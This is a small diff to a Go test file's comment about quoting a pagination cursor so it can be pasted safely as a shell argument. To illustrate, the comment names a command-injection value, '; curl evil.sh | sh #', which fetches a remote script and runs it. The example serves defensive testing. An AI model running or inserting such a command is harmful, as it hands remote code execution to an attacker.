@@ -189,8 +189,8 @@ func TestPrinters_ShowNoControlOrFormatCharacters(t *testing.T) {
 }
 
 // A list's next-page cursor is shown as a shell word an operator may paste: as given
-// when it holds only characters no shell reads, else in single quotes (a quote in it
-// as '\”), so `; curl evil.sh | sh #` stays inside the --after value. One holding a
+// when it holds only characters no shell reads, else in single quotes (each quote in
+// it closed, escaped and opened again), so `; curl evil.sh | sh #` stays inside the --after value. One holding a
 // character a cursor never holds (a control or format character, which the table
 // would show as a space and the copy would get wrong, or any not ASCII) is no page
 // of the route: refused, not shown.
